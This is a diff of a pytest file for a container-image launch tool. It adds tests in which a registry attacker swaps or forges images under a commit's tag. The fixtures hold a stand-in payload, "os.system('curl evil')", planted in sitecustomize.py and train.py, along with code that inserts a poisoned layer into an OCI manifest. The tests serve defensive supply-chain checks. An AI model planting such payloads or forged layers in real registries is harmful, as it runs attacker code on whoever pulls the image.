@@ -19,7 +19,7 @@ from typing import Any
 import pytest
 import requests
 
-from launch import compose, registry
+from launch import compose, registry, registry_push
 from launch.errors import ExitCode
 from tests.compose_lab import (
     BUSYBOX,
@@ -32,7 +32,13 @@ from tests.compose_lab import (
 )
 from tests.gitrepo import GitRepo, make_repo
 from tests.kube_emulator import KanikoController, KubeEmulator, running
-from tests.registry_server import Registry, push_image, push_tiny_image, running_registry
+from tests.registry_server import (
+    Registry,
+    layer_of,
+    push_image,
+    push_tiny_image,
+    running_registry,
+)  # fmt: skip
 from tests.test_submit import creates, invoke
 
 pytestmark = pytest.mark.timeout(300)
@@ -353,20 +359,103 @@ def test_an_oci_dependency_image_gives_an_oci_image(lab: Lab, tmp_path: Path) ->
     assert manifest["layers"][-1]["mediaType"] == "application/vnd.oci.image.layer.v1.tar+gzip"
 
 
-def test_a_composed_image_with_other_files_under_the_tag_is_refused(lab: Lab) -> None:
-    assert invoke("--name", "one", "--detach", *RUN).exit_code == 0
+def _swap_commit_tag(lab: Lab, *, source: bytes) -> str:
+    """Someone pushes an image under the commit's tag with launch's labels copied over: a
+    poisoned base layer plus a source layer holding `source` as train.py. Its digest."""
     commit = lab.repo.head()
     key = lab.builds[0]["tag"].removeprefix("deps-")
-    # Someone pushes other files under the commit's tag, with launch's labels copied over.
     labels = {
         "org.opencontainers.image.revision": commit,
         compose.DEPENDENCY_LABEL: key,
         compose.SOURCE_DIR_LABEL: "/workspace",
     }
-    push_image(
+    poisoned = {"usr/lib/python3/sitecustomize.py": (b"import os; os.system('curl evil')\n", 0o644)}
+    return push_image(
         lab.registry.url, "lab-project", commit, config={"Labels": labels},
-        layers=[*base_layers(), {"workspace/train.py": (b"import os; os.system('curl evil')", 0o644)}],
+        layers=[*base_layers(), poisoned, {"workspace/train.py": (source, 0o644)}],
     )  # fmt: skip
+
+
+def test_a_swapped_commit_tag_is_never_run(lab: Lab) -> None:
+    """image_trust = local (the default): the relaunch runs the digest this clone composed, not
+    whatever the tag names now, and reads no tag to decide."""
+    assert invoke("--name", "one", "--detach", *RUN).exit_code == 0
+    ours = trial_image(lab.kube, "one").rsplit("@", 1)[1]
+    swapped = _swap_commit_tag(lab, source=b"import os; os.system('curl evil')\n")
+    lab.kube.reset_requests()
+    result = invoke("--name", "two", "--detach", *RUN)
+    assert result.exit_code == 0, result.output
+    assert "already built by this clone" in result.stderr
+    assert trial_image(lab.kube, "two").endswith("@" + ours) and ours != swapped
+    assert creates(lab.kube, "jobs") == 0
+
+
+def _forge_on_poisoned_base(lab: Lab, digest: str, tag: str) -> str:
+    """What someone who can push does to get past labels: the real image's manifest and config
+    with a poisoned layer slipped in under its source layer, pushed under `tag`. Its digest."""
+    transport = registry.HttpTransport(lab.registry.url, timeout_s=5)
+    media_type, body, _ = registry.get_manifest(
+        repository="lab-project", reference=digest, transport=transport
+    )
+    manifest = json.loads(body)
+    config = json.loads(
+        registry.get_blob(
+            repository="lab-project", digest=manifest["config"]["digest"], transport=transport
+        )
+    )
+    poison, diff_id = layer_of({"usr/lib/python3/sitecustomize.py": (b"evil()\n", 0o644)})
+    layer = registry_push.upload_blob(repository="lab-project", data=poison, transport=transport)
+    last = manifest["layers"][-1]
+    manifest["layers"].insert(-1, {**last, "digest": layer, "size": len(poison)})
+    config["rootfs"]["diff_ids"].insert(-1, diff_id)
+    data = json.dumps(config).encode()
+    manifest["config"] = {**manifest["config"], "digest": registry_push.upload_blob(
+        repository="lab-project", data=data, transport=transport), "size": len(data)}  # fmt: skip
+    return registry_push.put_manifest(
+        repository="lab-project", tag=tag, media_type=media_type,
+        data=json.dumps(manifest).encode(), transport=transport,
+    )  # fmt: skip
+
+
+def test_a_copied_source_layer_on_a_poisoned_base_is_not_trusted(
+    lab: Lab, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The forgery labels cannot catch: the commit's own labels and source layer over a
+    poisoned layer. `image_trust = labels` reuses it (that setting trusts everyone who can
+    push); by default a clone that never made the image composes its own, and does not trust
+    the dependency tag either."""
+    assert invoke("--name", "one", "--detach", *RUN).exit_code == 0
+    ours = trial_image(lab.kube, "one").rsplit("@", 1)[1]
+    commit = lab.repo.head()
+    deps_tag = lab.builds[0]["tag"]
+    transport = registry.HttpTransport(lab.registry.url, timeout_s=5)
+    deps = registry.manifest_digest(repository="lab-project", tag=deps_tag, transport=transport)
+    assert deps is not None
+    _forge_on_poisoned_base(lab, deps, deps_tag)
+    swapped = _forge_on_poisoned_base(lab, ours, commit)
+
+    (Path(os.environ["LAUNCH_HOME"]) / "images.json").unlink()  # another clone: nothing recorded
+    fresh = invoke("--name", "fresh", "--detach", *RUN)
+    assert fresh.exit_code == 0, fresh.output
+    assert "building the dependency image" in fresh.stderr and len(lab.builds) == 2
+    # The stand-in Kaniko is reproducible: the rebuilt dependency image is the first one, so the
+    # composed image is too; the forgery is not run.
+    assert trial_image(lab.kube, "fresh").endswith("@" + ours) and ours != swapped
+
+    monkeypatch.setenv("LAUNCH_IMAGE_TRUST", "labels")
+    assert _forge_on_poisoned_base(lab, ours, commit) == swapped
+    trusting = invoke("--name", "trusting", "--detach", *RUN)
+    assert trusting.exit_code == 0, trusting.output
+    assert trial_image(lab.kube, "trusting").endswith("@" + swapped)
+
+
+def test_labels_trust_refuses_other_files_under_the_tag(
+    lab: Lab, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """image_trust = labels: a tag whose source layer is not the commit's is an error."""
+    assert invoke("--name", "one", "--detach", *RUN).exit_code == 0
+    _swap_commit_tag(lab, source=b"import os; os.system('curl evil')\n")
+    monkeypatch.setenv("LAUNCH_IMAGE_TRUST", "labels")
     lab.kube.reset_requests()
     result = invoke("--name", "two", "--detach", *RUN)
     assert result.exit_code == ExitCode.USAGE, result.output
